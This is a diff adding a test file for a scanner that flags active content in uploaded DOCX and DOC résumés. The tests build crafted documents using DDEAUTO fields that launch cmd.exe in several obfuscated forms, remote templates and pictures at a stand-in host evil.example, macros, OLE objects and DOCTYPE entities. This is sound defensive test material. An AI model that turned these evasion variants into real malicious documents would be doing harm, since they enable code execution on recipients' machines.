@@ -1,0 +1,301 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { contentTypesPart, docFile, documentPart, docxFile, zipFile } from '../cv-files.fixture.ts'
+import { checkContent } from './check-content.ts'
+
+let folder: string
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'whitecoat-active-'))
+})
+afterAll(() => rm(folder, { recursive: true }))
+
+async function findingOf(content: Buffer, format: 'docx' | 'doc' = 'docx') {
+  const path = join(folder, 'file')
+  await writeFile(path, content)
+  return checkContent(path, format)
+}
+
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
+
+type Part = { name: string; content: string | Buffer }
+type Relationship = [type: string, target: string, mode?: string]
+const relationshipsOf = (part: string, ...list: Relationship[]): Part => ({
+  name: `${part.replace(/[^/]*$/, '_rels/$&')}.rels`,
+  content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
+    .map(([type, target, mode]) => {
+      const full = type.includes(':') ? type : `${office}/${type}`
+      return `<Relationship Id="rId9" Type="${full}" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`
+    })
+    .join('')}</Relationships>`,
+})
+const related = (...list: Relationship[]) => relationshipsOf('word/document.xml', ...list)
+const outside = (type: string, target: string) => related([type, target, 'External'])
+
+const documentWith = (inner: string) => ({
+  name: 'word/document.xml',
+  content: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}">${inner}</w:document>`,
+})
+
+/** Types by extension or by part. */
+const typesOf = (types: Record<string, string>) =>
+  contentTypesPart(
+    undefined,
+    Object.entries(types)
+      .map(([name, type]) =>
+        name.startsWith('/')
+          ? `<Override PartName="${name}" ContentType="${type}"/>`
+          : `<Default Extension="${name}" ContentType="${type}"/>`,
+      )
+      .join(''),
+  )
+
+const docxWith = (parts: Part[], types: Record<string, string> = {}) =>
+  zipFile([typesOf(types), ...(parts.some(({ name }) => name === documentPart.name) ? [] : [documentPart]), ...parts])
+
+const run = (inner: string) => `<w:r>${inner}</w:r>`
+const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
+const pieces = (...codes: string[]) => codes.map((it) => run(`<w:instrText xml:space="preserve">${it}</w:instrText>`)).join('')
+const field = (code: string, result = '') => `${mark('begin')}${code}${mark('separate')}${result}${mark('end')}`
+const withFields = (...fields: string[]) => docxWith([documentWith(`<w:body><w:p>${fields.join('')}</w:p></w:body>`)])
+
+const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])
+
+test.each<[string, Buffer]>([
+  ['a page', docxFile()],
+  ['a link', docxWith([outside('hyperlink', 'https://example.org')])],
+  ['a picture', docxWith([related(['image', 'media/image1.png']), { name: 'word/media/image1.png', content: 'x' }])],
+  [
+    'a link in the strict form',
+    docxWith([outside('http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink', 'https://a.example')]),
+  ],
+  [
+    'the name of a template on the author’s disk',
+    docxWith([outside('attachedTemplate', 'file:///C:\\Users\\Jane\\Resume.dotx')]),
+  ],
+  ['a template on the disk of a Mac', docxWith([outside('attachedTemplate', 'file:///Users/jane/Resume.dotx')])],
+  [
+    'what Word writes',
+    docxWith(
+      [
+        relationshipsOf(
+          '',
+          ['officeDocument', 'word/document.xml'],
+          ['http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties', 'docProps/core.xml'],
+          ['extended-properties', 'docProps/app.xml'],
+          ['http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail', 'docProps/thumbnail.emf'],
+          ['http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels', 'docMetadata/LabelInfo.xml'],
+        ),
+        related(
+          ['styles', 'styles.xml'],
+          ['theme', 'theme/theme1.xml'],
+          ['customXml', '../customXml/item1.xml'],
+          ['printerSettings', 'printerSettings/printerSettings1.bin'],
+          ['http://schemas.microsoft.com/office/2016/09/relationships/commentsIds', 'commentsIds.xml'],
+        ),
+        ...[
+          'docProps/core.xml',
+          'docProps/app.xml',
+          'docMetadata/LabelInfo.xml',
+          'word/styles.xml',
+          'word/theme/theme1.xml',
+          'word/commentsIds.xml',
+          'customXml/item1.xml',
+        ].map((name) => ({ name, content: '<a/>' })),
+        { name: 'docProps/thumbnail.emf', content: 'x' },
+        { name: 'word/printerSettings/printerSettings1.bin', content: 'x' },
+      ],
+      {
+        emf: 'image/x-emf',
+        bin: `${word}.printerSettings`,
+        '/docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
+        '/docProps/app.xml': 'application/vnd.openxmlformats-officedocument.extended-properties+xml',
+        '/docMetadata/LabelInfo.xml': 'application/vnd.ms-office.classificationlabels+xml',
+        '/word/styles.xml': `${word}.styles+xml`,
+        '/word/theme/theme1.xml': 'application/vnd.openxmlformats-officedocument.theme+xml',
+        '/word/commentsIds.xml': `${word}.commentsIds+xml`,
+      },
+    ),
+  ],
+  [
+    'fonts as Google Docs embeds them',
+    docxWith(
+      [relationshipsOf('word/fontTable.xml', ['font', 'fonts/Roboto.ttf']), { name: 'word/fonts/Roboto.ttf', content: 'x' }],
+      {
+        ttf: 'application/x-font-ttf',
+      },
+    ),
+  ],
+  ['an entry for a folder', docxWith([{ name: 'word/media/', content: '' }])],
+  ['a type that no part has', docxWith([], { bin: 'application/vnd.openxmlformats-officedocument.oleObject' })],
+  ['a page number', withFields(field(pieces(' PAGE ')))],
+  ['a page number without marks', docxWith([documentWith('<w:instrText> PAGE </w:instrText>')])],
+  [
+    'a page number in one element',
+    withFields('<w:fldSimple w:instr=" NUMPAGES \\* MERGEFORMAT "><w:r><w:t>2</w:t></w:r></w:fldSimple>'),
+  ],
+  ['a link in pieces', withFields(field(pieces(' HYPER', 'LINK "https://a', '.example" '), run('<w:t>DDE Hospital</w:t>')))],
+  [
+    'contents',
+    withFields(
+      field(pieces(' TOC \\o "1-3" \\h '), field(pieces(' HYPERLINK \\l "_Toc1" '), field(pieces(' PAGEREF _Toc1 \\h ')))),
+    ),
+  ],
+  ['a formula', withFields(field(`${pieces(' =')}${field(pieces('PAGE'))}${pieces('+1 ')}`))],
+  ['a condition', withFields(field(`${pieces(' IF ')}${field(pieces(' PAGE '))}${pieces(' = 1 "DDE" "" ')}`))],
+  ['citations', withFields(field(`${pieces(' ADDIN EN.CITE ')}${field(pieces(' ADDIN EN.CITE.DATA '))}`))],
+  ['a placeholder to click on', withFields(field(pieces(' MACROBUTTON NoMacro [Click here and type your name] ')))],
+  ['a reference by its bookmark', withFields(field(pieces(' _Ref123456 \\h ')))],
+  ['an empty field', withFields(field(''))],
+])('a DOCX with %s is accepted', async (_, content) => {
+  expect(await findingOf(content)).toBeUndefined()
+})
+
+test.each<[string, Buffer]>([
+  ['macros', docxWith([{ name: 'word/vbaProject.bin', content: 'x' }], { bin: 'application/vnd.ms-office.vbaProject' })],
+  [
+    'an ActiveX control',
+    docxWith([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }], {
+      '/word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml',
+    }),
+  ],
+  [
+    'an OLE object in .bin',
+    docxWith([related(['oleObject', 'embeddings/oleObject1.bin']), { name: 'word/embeddings/oleObject1.bin', content: ole }], {
+      bin: 'application/vnd.openxmlformats-officedocument.oleObject',
+    }),
+  ],
+  [
+    'an OLE object in .dat',
+    docxWith([related(['oleObject', 'media/image1.dat']), { name: 'word/media/image1.dat', content: ole }], {
+      dat: 'application/octet-stream',
+    }),
+  ],
+  [
+    'an OLE object as a picture',
+    docxWith([related(['oleObject', 'media/image1.png']), { name: 'word/media/image1.png', content: ole }]),
+  ],
+  ['an OLE object without a type', docxWith([{ name: 'word/media/image1.dat', content: ole }])],
+  [
+    'an embedded .docx',
+    docxWith([related(['package', 'embeddings/a.docx']), { name: 'word/embeddings/a.docx', content: docxFile() }], {
+      docx: `${word}.document`,
+    }),
+  ],
+  [
+    'an imported RTF',
+    docxWith([related(['aFChunk', 'afchunk.rtf']), { name: 'word/afchunk.rtf', content: '{\\rtf1}' }], {
+      rtf: 'application/rtf',
+    }),
+  ],
+  [
+    'an imported web page',
+    docxWith([related(['aFChunk', 'afchunk.mht']), { name: 'word/afchunk.mht', content: 'MIME-Version: 1.0' }], {
+      mht: 'message/rfc822',
+    }),
+  ],
+  ['an imported part in XML', docxWith([related(['aFChunk', 'chunk.xml']), { name: 'word/chunk.xml', content: '<a/>' }])],
+  ['a subdocument', docxWith([related(['subDocument', 'sub.xml']), { name: 'word/sub.xml', content: '<a/>' }])],
+  [
+    'a ribbon of its own',
+    docxWith([
+      relationshipsOf('', ['http://schemas.microsoft.com/office/2006/relationships/ui/extensibility', 'customUI/customUI.xml']),
+    ]),
+  ],
+  [
+    'an add-in',
+    docxWith([
+      relationshipsOf('', [
+        'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
+        'word/webextensions/taskpanes.xml',
+      ]),
+    ]),
+  ],
+  [
+    'keys that start macros',
+    docxWith([related(['http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations', 'customizations.xml'])]),
+  ],
+  ['a template of its own', docxWith([related(['attachedTemplate', 'template.xml'])])],
+  ['a template from the web', docxWith([outside('attachedTemplate', 'https://evil.example/t.dotm')])],
+  ['a template from the web, spelled otherwise', docxWith([outside('attachedTemplate', '&#104;ttps://evil.example/t.dotm')])],
+  ['a template from a network share', docxWith([outside('attachedTemplate', 'file://evil.example/t.dotm')])],
+  ['a template from a share with more slashes', docxWith([outside('attachedTemplate', 'file://///evil.example/t.dotm')])],
+  ['a picture from the web', docxWith([outside('image', 'https://evil.example/p.png')])],
+  ['an external object', docxWith([outside('oleObject', 'mhtml:https://evil.example/x!x-usc:y')])],
+  [
+    'a relationship with a prefix',
+    docxWith([
+      {
+        name: 'word/_rels/document.xml.rels',
+        content: '<p:Relationships xmlns:p="x"><p:Relationship Type="x/aFChunk" Target="a"/></p:Relationships>',
+      },
+    ]),
+  ],
+  [
+    'relationships that say they are a picture',
+    docxWith([outside('oleObject', 'https://evil.example/')], { '/word/_rels/document.xml.rels': 'image/png' }),
+  ],
+  ['data of another program', docxWith([documentWith('<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>')])],
+  ['a page of the web', docxWith([documentWith('<w:webVideoPr w:embeddedHtml="x"/>')])],
+  ['a field that starts a program', withFields(field(pieces(' DDEAUTO c:\\\\windows\\\\cmd.exe ')))],
+  ['such a field without marks', docxWith([documentWith('<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>')])],
+  ['such a field in pieces', withFields(field(pieces(' D', 'D', 'EAU', 'TO cmd')))],
+  ['such a field after another', withFields(field(pieces('PAGE')), field(pieces('DDEAUTO cmd')))],
+  ['such a field without an end', withFields(mark('begin'), pieces('DDEAUTO cmd'))],
+  ['such a field in one element', withFields('<w:fldSimple w:instr="DDEAUTO cmd"/>')],
+  ['such a field after another in one element', withFields('<w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DDE cmd"/>')],
+  ['such a field with its letters as references', withFields('<w:fldSimple w:instr="&#68;&#x44;E cmd"/>')],
+  ['such a field in quotes', withFields(field(pieces(' "DDEAUTO" cmd')))],
+  ['such a field with backslashes', withFields(field(pieces(' \\DDEAUTO cmd')))],
+  ['such a field in a section of characters', withFields(field('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>'))],
+  ['such a field in ordinary text', withFields(field(run('<w:t>DDEAUTO cmd</w:t>')))],
+  ['such a field that was deleted', withFields(field('<w:delInstrText>DDEAUTO cmd</w:delInstrText>'))],
+  ['such a field in the result of another', withFields(field(pieces(' PAGE '), field(pieces('DDEAUTO cmd'))))],
+  ['such a field in the code of another', withFields(field(`${pieces(' IF 1 = 1 ')}${field(pieces('DDEAUTO cmd'))}`))],
+  ['a name that another field makes', withFields(field(`${field(pieces(' QUOTE 68 68 69 '))}${pieces(' cmd')}`))],
+  ['a name that another field ends', withFields(field(`${pieces(' D')}${field(pieces(' QUOTE 68 69 '))}${pieces('AUTO cmd')}`))],
+  ['a name that another field goes on with', withFields(field(`${pieces(' TOC')}${field(pieces(' QUOTE 68 69 '))}`))],
+  [
+    'such a field under another prefix',
+    docxWith([
+      {
+        name: 'word/document.xml',
+        content:
+          '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE cmd"/></x:document>',
+      },
+    ]),
+  ],
+  ['a text from elsewhere', withFields(field(pieces(' INCLUDETEXT "https://evil.example" ')))],
+  ['a picture from elsewhere', withFields(field(pieces(' INCLUDEPICTURE "https://evil.example" ')))],
+  ['a link to another program', withFields(field(pieces(' LINK Excel.Sheet "x" ')))],
+  ['a macro', withFields(field(pieces(' MACROBUTTON AutoOpen click ')))],
+])('a DOCX with %s is active', async (_, content) => {
+  expect(await findingOf(content)).toBe('active')
+})
+
+test.each<[string, Buffer]>([
+  ['a declared document type', docxWith([{ name: 'word/x.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }])],
+  ['damaged XML', docxWith([{ name: 'word/x.xml', content: '<a><b></a>' }])],
+  ['XML in UTF-16', docxWith([{ name: 'word/x.xml', content: Buffer.from('\uFEFF<a/>', 'utf16le') }])],
+  ['XML in UTF-16 without a mark', docxWith([{ name: 'word/x.xml', content: Buffer.from('<a/>', 'utf16le') }])],
+  ['XML in UTF-7', docxWith([{ name: 'word/x.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }])],
+  ['a part twice in other letters', docxWith([{ name: 'Word/Document.xml', content: '<a/>' }])],
+])('a DOCX with %s cannot be read', async (_, content) => {
+  expect(await findingOf(content)).toBe('unreadable')
+})
+
+test('a DOC is accepted, and active with macros, embedded objects, fields that start programs, or a template from the web', async () => {
+  expect(await findingOf(docFile(), 'doc')).toBeUndefined()
+  const more = (text: string, encoding: BufferEncoding = 'latin1') => Buffer.concat([docFile(), Buffer.from(text, encoding)])
+  for (const content of [
+    more('_VBA_PROJECT', 'utf16le'),
+    more('Macros', 'utf16le'),
+    more('ObjectPool', 'utf16le'),
+    more(' DDEAUTO cmd'),
+    more('https://evil.example/t.dotm', 'utf16le'),
+    more('\\\\evil.example\\share\\t.dotm', 'utf16le'),
+  ])
+    expect(await findingOf(content, 'doc')).toBe('active')
+})
